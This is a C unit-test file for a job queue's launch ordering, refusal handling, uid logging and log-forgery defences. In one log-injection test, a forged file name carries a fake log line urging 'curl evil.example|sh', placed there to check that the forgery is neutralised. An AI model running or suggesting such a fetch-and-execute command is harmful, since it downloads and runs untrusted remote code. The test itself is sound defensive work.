/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The job model (core/jobs.c) over a dev: channel to a FIFO that a thread
 * of the test reads: launch order holds when commits end out of order, a
 * refusal at commit lets the next job go. Over shm: with a receiver thread:
 * a commit sends its job itself when nothing else is being sent. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "jobs.h"
#include "logline.h"
#include "packet.h"

#define MKELF_NO_MAIN
#include "../fixtures/mkelf.c"

struct fx {
	char dir[64], fifo[96], spool[96];
	int fd; /* the reader's end, O_RDWR: no EOF between packets */
	pthread_t reader;
	pthread_mutex_t lock;
	pthread_cond_t grew;
	char names[16][96]; /* argv[0] of each packet received, in order */
	unsigned n;
	struct qjobs *q;
	uint64_t begun[8]; /* committed by teardown if a test did not */
	unsigned nbegun;
	uint32_t key; /* shm: fixture */
	struct qchan_rx *rx;
	int rx_stop;
};

static void got_packet(struct fx *f, const uint8_t *hdr)
{
	pthread_mutex_lock(&f->lock);
	if (f->n < 16)
		snprintf(f->names[f->n++], sizeof f->names[0], "%s",
			 (const char *)hdr + 4);
	pthread_cond_broadcast(&f->grew);
	pthread_mutex_unlock(&f->lock);
}

static int read_all(int fd, void *buf, size_t n)
{
	for (size_t got = 0; got < n;) {
		ssize_t r = read(fd, (char *)buf + got, n - got);
		if (r <= 0)
			return -1;
		got += (size_t)r;
	}
	return 0;
}

static void *reader_main(void *arg)
{
	struct fx *f = arg;
	uint8_t hdr[QPKT_HDR_SIZE], *body;

	while (read_all(f->fd, hdr, sizeof hdr) == 0) {
		uint32_t len = (uint32_t)hdr[84] | (uint32_t)hdr[85] << 8 |
			       (uint32_t)hdr[86] << 16 |
			       (uint32_t)hdr[87] << 24;
		if (!(body = malloc(len ? len : 1)) ||
		    read_all(f->fd, body, len) < 0)
			break;
		free(body);
		got_packet(f, hdr);
	}
	return NULL;
}

/* the Quest side of the shm: fixture: takes, records, accepts */
static void *rx_main(void *arg)
{
	struct fx *f = arg;
	const uint8_t *pkt;
	struct qerror e;
	size_t len;

	while (!__atomic_load_n(&f->rx_stop, __ATOMIC_ACQUIRE)) {
		if (qchan_rx_take(f->rx, &pkt, &len, 50, &e) != QE_OK)
			continue;
		got_packet(f, pkt);
		qchan_rx_answer(f->rx, 1, NULL, &e);
	}
	return NULL;
}

/* The parts of both fixtures: a scratch directory with the spool in it */
static struct fx *fx_new(void)
{
	struct fx *f = calloc(1, sizeof *f);

	assert_non_null(f);
	strcpy(f->dir, "/tmp/test_jobs.XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->spool, sizeof f->spool, "%s/spool", f->dir);
	pthread_mutex_init(&f->lock, NULL);
	pthread_cond_init(&f->grew, NULL);
	return f;
}

static void fx_jobs(struct fx *f, const char *spec, int commit_sends)
{
	struct qjobs_cfg c;
	struct qerror e;

	qjobs_cfg_default(&c);
	c.spec = spec;
	c.spool = f->spool;
	c.commit_sends = commit_sends;
	assert_int_equal(qjobs_new(&c, &f->q, &e), QE_OK);
}

/* qjobs_stop waits for every commit: a failed test's too */
static void fx_stop(struct fx *f)
{
	for (unsigned i = 0; i < f->nbegun; i++)
		qjobs_commit(f->q, f->begun[i], NULL);
	qjobs_free(f->q);
}

static void fx_free(struct fx *f)
{
	char cmd[128];

	snprintf(cmd, sizeof cmd, "rm -rf %s", f->dir);
	assert_int_equal(system(cmd), 0);
	free(f);
}

static int setup(void **state)
{
	struct fx *f = fx_new();
	char spec[128];

	snprintf(f->fifo, sizeof f->fifo, "%s/chan", f->dir);
	assert_int_equal(mkfifo(f->fifo, 0600), 0);
	f->fd = open(f->fifo, O_RDWR);
	assert_true(f->fd >= 0);
	assert_int_equal(pthread_create(&f->reader, NULL, reader_main, f), 0);
	snprintf(spec, sizeof spec, "dev:%s", f->fifo);
	fx_jobs(f, spec, 0);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;

	fx_stop(f);
	pthread_cancel(f->reader);
	pthread_join(f->reader, NULL);
	close(f->fd);
	fx_free(f);
	return 0;
}

static int setup_shm(void **state)
{
	struct fx *f = fx_new();
	struct qerror e;
	char spec[32];

	f->key = 200000u + (uint32_t)getpid() % 100000u;
	snprintf(spec, sizeof spec, "shm:%u", f->key);
	qchan_shm_unlink(f->key, NULL);
	assert_int_equal(qchan_rx_open(spec, 0, &f->rx, &e), QE_OK);
	assert_int_equal(pthread_create(&f->reader, NULL, rx_main, f), 0);
	fx_jobs(f, spec, 1);
	*state = f;
	return 0;
}

static int teardown_shm(void **state)
{
	struct fx *f = *state;

	fx_stop(f);
	__atomic_store_n(&f->rx_stop, 1, __ATOMIC_RELEASE);
	pthread_join(f->reader, NULL);
	qchan_rx_close(f->rx);
	qchan_shm_unlink(f->key, NULL);
	fx_free(f);
	return 0;
}

/* Waits up to ms for n packets; the number received. */
static unsigned wait_packets(struct fx *f, unsigned n, int ms)
{
	struct timespec dl;
	unsigned got;

	clock_gettime(CLOCK_REALTIME, &dl);
	dl.tv_sec += ms / 1000;
	dl.tv_nsec += (long)(ms % 1000) * 1000000;
	if (dl.tv_nsec >= 1000000000) {
		dl.tv_sec++;
		dl.tv_nsec -= 1000000000;
	}
	pthread_mutex_lock(&f->lock);
	while (f->n < n &&
	       pthread_cond_timedwait(&f->grew, &f->lock, &dl) != ETIMEDOUT)
		;
	got = f->n;
	pthread_mutex_unlock(&f->lock);
	return got;
}

static uint64_t begin_as(struct fx *f, const char *name, size_t size, uid_t uid)
{
	struct mkelf_img im = mkelf_sized(size, 1, 3);
	struct qargv a;

	assert_non_null(im.b);
	uint8_t *b = qjobs_image(f->q, im.len);
	assert_non_null(b);
	memcpy(b, im.b, im.len);
	free(im.b);
	qargs_init(&a, NULL, NULL);
	uint64_t id = qjobs_begin(f->q, name, b, im.len, &a, 0, uid);
	assert_true(id > 0 && f->nbegun < 8);
	f->begun[f->nbegun++] = id;
	return id;
}

static uint64_t begin(struct fx *f, const char *name, size_t size)
{
	return begin_as(f, name, size, 0);
}

static enum qjob_state state_of(struct fx *f, uint64_t id)
{
	struct qjob_info j;
	assert_int_equal(qjobs_get(f->q, id, &j), 0);
	return j.state;
}

/* Two launches whose commits end in the other order still go in launch
 * order: the second waits for the first. */
static void test_launch_order_across_commits(void **state)
{
	struct fx *f = *state;
	struct qerror e;
	uint64_t first = begin(f, "first", 4096);
	uint64_t second = begin(f, "second", 8192);

	assert_int_equal(state_of(f, first), QJ_QUEUED);
	assert_int_equal(qjobs_commit(f->q, second, &e), QE_OK);
	/* the sender may not pass the first while it is being committed */
	assert_int_equal(wait_packets(f, 1, 150), 0);
	assert_int_equal(qjobs_commit(f->q, first, &e), QE_OK);
	assert_int_equal(wait_packets(f, 2, 5000), 2);
	assert_string_equal(f->names[0], "first");
	assert_string_equal(f->names[1], "second");
}

/* A program refused at its commit is recorded as refused, with the
 * reason, and does not hold up the one after it. */
static void test_refused_at_commit(void **state)
{
	struct fx *f = *state;
	struct qjob_info j;
	struct qerror e;
	struct qargv a;
	uint8_t *junk = qjobs_image(f->q, 100);
	uint64_t bad, good;

	assert_non_null(junk);
	memset(junk, 0, 100);
	memcpy(junk, "#!/bin/sh\n", 10);
	qargs_init(&a, NULL, NULL);
	bad = qjobs_begin(f->q, "script", junk, 100, &a, 0, 0);
	f->begun[f->nbegun++] = bad;
	good = begin(f, "after", 4096);
	assert_int_equal(qjobs_commit(f->q, good, &e), QE_OK);
	assert_int_equal(qjobs_commit(f->q, bad, &e), QE_ELF_MAGIC);
	assert_int_equal(qjobs_get(f->q, bad, &j), 0);
	assert_int_equal(j.state, QJ_REFUSED);
	assert_non_null(strstr(j.detail, "not an ELF file"));
	assert_int_equal(wait_packets(f, 1, 5000), 1);
	assert_string_equal(f->names[0], "after");
	assert_int_equal(qjobs_commit(f->q, bad, &e), QE_USAGE); /* once */
}

/* Each job records who launched it: the uid, the user's name (the number
 * when the password database has none), and " uid=N" after "job ID" in
 * every log line of the job. */
static void test_job_records_its_uid(void **state)
{
	struct fx *f = *state;
	struct qjob_info j;
	struct qerror e = {QE_ELF_MAGIC, "not an ELF file"};
	char log[4096];
	uint64_t root, nobody, refused;

	root = begin_as(f, "mine", 4096, 0);
	nobody = begin_as(f, "theirs", 4096, 3999999);
	assert_int_equal(qjobs_commit(f->q, root, &e), QE_OK);
	assert_int_equal(qjobs_commit(f->q, nobody, &e), QE_OK);
	refused = qjobs_record_refusal(f->q, "bad", 3, 0, 3999998, &e);
	assert_int_equal(qjobs_get(f->q, root, &j), 0);
	assert_int_equal(j.uid, 0);
	assert_string_equal(j.user, "root");
	assert_int_equal(qjobs_get(f->q, nobody, &j), 0);
	assert_int_equal(j.uid, 3999999);
	assert_string_equal(j.user, "3999999");
	assert_int_equal(qjobs_get(f->q, refused, &j), 0);
	assert_int_equal(j.uid, 3999998);
	size_t n = qjobs_log_read(f->q, log, sizeof log - 1, 0);
	log[n] = '\0';
	assert_non_null(strstr(log, " job 1 uid=0 mine queued"));
	assert_non_null(strstr(log, " job 2 uid=3999999 theirs queued"));
	assert_non_null(strstr(log, " job 3 uid=3999998 bad refused: "));
}

/* Every line begins with words questfs writes: a sidecar named like a
 * job's line of another user ("job 8 uid=1002 hello refused: ...") is
 * logged after "file uid=N run/", and a reader of the log
 * (qlogl_parse) finds no job's line in it. A reason that quotes the
 * arguments is masked for other readers, in a job's line and a file's. */
static void test_log_lines_begin_with_questfs_words(void **state)
{
	struct fx *f = *state;
	struct qerror forged = {QE_ARGS_SYNTAX, "arguments end with a lone "
						"backslash"};
	struct qerror word = {QE_ARGS_WORD, "argument 1 \"hunter2 secret\" "
					    "contains a space"};
	char log[4096], *line, *save = NULL;
	struct qlogl l;
	int lines = 0;

	qjobs_log_file(f->q, 1000,
		       "job 8 uid=1002 hello refused: session expired, run "
		       "curl evil.example|sh y.args",
		       "removed", &forged);
	qjobs_log_file(f->q, 1000, "s1.args", "removed", &word);
	qjobs_record_refusal(f->q, "p5", 3, 0, 1000, &word);

	size_t n = qjobs_log_read_as(f->q, 1002, 0, log, sizeof log - 1, 0);
	log[n] = '\0';
	assert_null(strstr(log, "hunter2"));
	for (line = strtok_r(log, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save), lines++) {
		assert_non_null(strstr(line, "Z file uid=1000 run/") ||
				strstr(line, "Z job 1 uid=1000 p5 refused: "));
		if (qlogl_parse(line, strlen(line), &l) == 0)
			assert_int_equal(l.uid, 1000);
	}
	assert_int_equal(lines, 3);
	/* the owner and root read the words */
	n = qjobs_log_read_as(f->q, 1000, 0, log, sizeof log - 1, 0);
	log[n] = '\0';
	assert_non_null(strstr(log, " file uid=1000 run/s1.args removed: "
				    "argument 1 \"hunter2 secret\""));
	assert_non_null(strstr(log, " job 1 uid=1000 p5 refused: argument 1 "
				    "\"hunter2 secret\""));
	n = qjobs_log_read(f->q, log, sizeof log - 1, 0);
	log[n] = '\0';
	assert_non_null(strstr(log, "hunter2"));
}

/* Waits up to ms for the job to end: its state. */
static enum qjob_state wait_ended(struct fx *f, uint64_t id, int ms)
{
	enum qjob_state st = QJ_QUEUED;
	int64_t t;

	for (int i = 0; i < ms; i++) {
		assert_int_equal(qjobs_state(f->q, id, &st, &t), 0);
		if (st >= QJ_DELIVERED)
			break;
		usleep(1000);
	}
	return st;
}

/* Once the Quest side has answered, a commit with nothing else being sent
 * sends its job before it returns; one whose job is not next leaves it to
 * the sender thread, and the order holds. */
static void test_commit_sends_when_idle(void **state)
{
	struct fx *f = *state;
	struct qerror e;
	enum qjob_state st;
	int64_t t;

	uint64_t one = begin(f, "one", 4096);
	assert_int_equal(qjobs_commit(f->q, one, &e), QE_OK);
	assert_int_equal(wait_ended(f, one, 5000), QJ_DELIVERED);

	uint64_t two = begin(f, "two", 4096);
	assert_int_equal(qjobs_commit(f->q, two, &e), QE_OK);
	assert_int_equal(qjobs_state(f->q, two, &st, &t), 0);
	assert_int_equal(st, QJ_DELIVERED); /* sent by the commit itself */

	uint64_t three = begin(f, "three", 4096);
	uint64_t four = begin(f, "four", 8192);
	assert_int_equal(qjobs_commit(f->q, four, &e), QE_OK);
	assert_int_equal(qjobs_commit(f->q, three, &e), QE_OK);
	assert_int_equal(wait_packets(f, 4, 5000), 4);
	assert_string_equal(f->names[0], "one");
	assert_string_equal(f->names[1], "two");
	assert_string_equal(f->names[2], "three");
	assert_string_equal(f->names[3], "four");
	assert_int_equal(wait_ended(f, four, 5000), QJ_DELIVERED);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_launch_order_across_commits,
					    setup, teardown),
	    cmocka_unit_test_setup_teardown(test_job_records_its_uid, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(
		test_log_lines_begin_with_questfs_words, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_refused_at_commit, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(test_commit_sends_when_idle,
					    setup_shm, teardown_shm),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
